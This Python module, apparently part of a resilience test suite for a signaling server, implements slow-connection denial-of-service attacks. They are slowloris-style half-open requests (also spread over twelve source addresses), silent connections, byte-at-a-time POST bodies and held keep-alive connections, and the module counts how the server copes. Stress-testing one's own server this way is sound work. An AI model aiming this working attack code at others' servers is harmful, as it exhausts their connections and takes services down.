"""Connections that are opened and hardly used."""

import asyncio
import resource
from collections import Counter
from contextlib import suppress
from typing import Any

from attacks.target import OFFER, SDP, Report, Target, paced

HALF_OPEN = 1_100
SETTLED_S = 1.0
"""Until this side has noticed what the other has closed."""


class Held:
    """Connections that are held open."""

    def __init__(self, target: Target) -> None:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < 2 * HALF_OPEN:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2 * HALF_OPEN), hard))
        self._target = target
        self._open: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
        self.outcomes: Counter[str] = Counter()

    async def open(self, head: bytes, source: str = "") -> asyncio.StreamWriter | None:
        """One more, with ``head`` sent; None if the server takes no more."""
        host, port = self._target.address
        address = (source or self._target.source, 0)
        try:
            async with asyncio.timeout(2):
                pair = await asyncio.open_connection(host, port, local_addr=address)
                pair[1].write(head)
        except (OSError, TimeoutError):
            self.outcomes["not opened"] += 1
            return None
        self._open.append(pair)
        self.outcomes["opened"] += 1
        return pair[1]

    async def dribble(self, piece: bytes) -> None:
        """A few bytes on each that still stands."""
        for _, writer in self._open:
            if not writer.is_closing():
                writer.write(piece)
        await asyncio.sleep(0)

    async def close(self) -> Report:
        """Let go of all. Counts those that the server has not closed, and its answers by status."""
        await asyncio.sleep(SETTLED_S)
        for stream, writer in self._open:
            reader: Any = stream  # of which only the inside tells what we ask
            # at_eof() would ask for what has come to be read
            self.outcomes["standing"] += not reader._eof and reader.exception() is None
            if reader._buffer:
                self.outcomes[bytes(reader._buffer[9:12]).decode(errors="replace")] += 1
            writer.close()
        for _, writer in self._open:
            with suppress(OSError):
                await writer.wait_closed()
        return dict(self.outcomes)


async def half_open(target: Target, addresses: int = 1) -> Report:
    """1,100 connections that send the first half of a request's head, as fast as they open; what
    isn't open after a quarter of the time isn't tried."""
    held = Held(target)
    sources = [target.source, *(f"127.0.3.{n}" for n in range(1, addresses))]
    loop = asyncio.get_running_loop()
    began = loop.time()
    for n in range(HALF_OPEN):
        if loop.time() > began + target.seconds / 4:
            break
        await held.open(b"GET / HTTP/1.1\r\nHost: x\r\n", sources[n % len(sources)])
    while loop.time() < began + target.seconds:
        await asyncio.sleep(0.5)
        await held.dribble(b"X-More: y\r\n")
    return await held.close()


async def half_open_from_twelve(target: Target) -> Report:
    """The same from twelve addresses."""
    return await half_open(target, addresses=12)


async def silent_connections(target: Target) -> Report:
    """300 connections that send nothing at all."""
    held = Held(target)
    for _ in range(300):
        await held.open(b"")
    await asyncio.sleep(target.seconds)
    return await held.close()


async def slow_bodies(target: Target) -> Report:
    """Offers of which a byte comes every half second, 150 of them at once."""
    held = Held(target)
    head = f"POST /calls HTTP/1.1\r\nHost: x\r\nContent-Type: {SDP['Content-Type']}\r\n"
    for _ in range(150):
        await held.open(f"{head}Content-Length: {len(OFFER)}\r\n\r\nv".encode())
    async for n in paced(target.seconds, 2):
        await held.dribble(OFFER[1 + n : 2 + n].encode())
    return await held.close()


async def kept_alive(target: Target) -> Report:
    """200 connections, each with one whole request, then kept."""
    held = Held(target)
    for _ in range(200):
        await held.open(b"GET /status HTTP/1.1\r\nHost: x\r\n\r\n")
    await asyncio.sleep(target.seconds)
    return await held.close()
